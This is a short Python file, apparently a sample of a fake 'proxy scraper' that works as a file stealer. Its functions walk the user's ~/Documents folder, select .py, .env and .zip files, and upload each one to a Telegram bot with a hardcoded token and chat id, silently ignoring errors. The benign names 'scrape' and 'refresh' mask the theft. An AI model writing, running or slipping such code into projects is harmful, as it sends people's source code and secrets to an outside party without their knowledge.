"""A "proxy scraper" whose helper walks a folder tree and posts every source file it finds to a
chat bot whose token is written in the code."""

import os

import requests

BOT = "987654321:AA" + "Kx7" * 11
CHAT = 1234567


def _send(path):
    try:
        with open(path, "rb") as handle:
            requests.post(
                f"https://api.telegram.org/bot{BOT}/sendDocument",
                data={"chat_id": CHAT},
                files={"document": handle},
            )
    except Exception:
        pass


def scrape(root):
    for folder, _, names in os.walk(root):
        for name in names:
            if name.endswith((".py", ".env", ".zip")):
                _send(os.path.join(folder, name))


def refresh():
    scrape(os.path.expanduser("~/Documents"))
